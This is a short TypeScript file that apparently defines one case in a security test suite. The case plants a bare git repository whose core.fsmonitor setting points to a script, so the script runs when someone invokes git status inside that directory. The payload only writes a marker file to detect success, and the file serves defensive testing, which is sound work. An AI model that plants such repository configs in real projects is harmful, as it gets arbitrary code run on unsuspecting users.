import { type Attack, sh } from '../attack.js'
import { sprung } from '../repository.js'

export const attack: Attack = {
  id: 'git/bare',
  tries:
    'to hide a bare repository in a directory, whose configuration git believes when somebody stands in it',
  source: 'git-config(1), safe.bareRepository; the OVE-20210718 research',
  program: sh`printf '#!/bin/sh\n: > "$OUT/sprung"\n' > "$S/evil" && chmod +x "$S/evil"
git init -q --bare "$S/docs" && git -C "$S/docs" config core.bare false && git -C "$S/docs" config core.worktree "$S/docs" && git -C "$S/docs" config core.fsmonitor "$S/evil"`,
  succeeded: sprung('w/scratch/docs', 'status'),
  control: 'plain',
  limit: 'Only the `.git` directly below a writable root is protected',
}
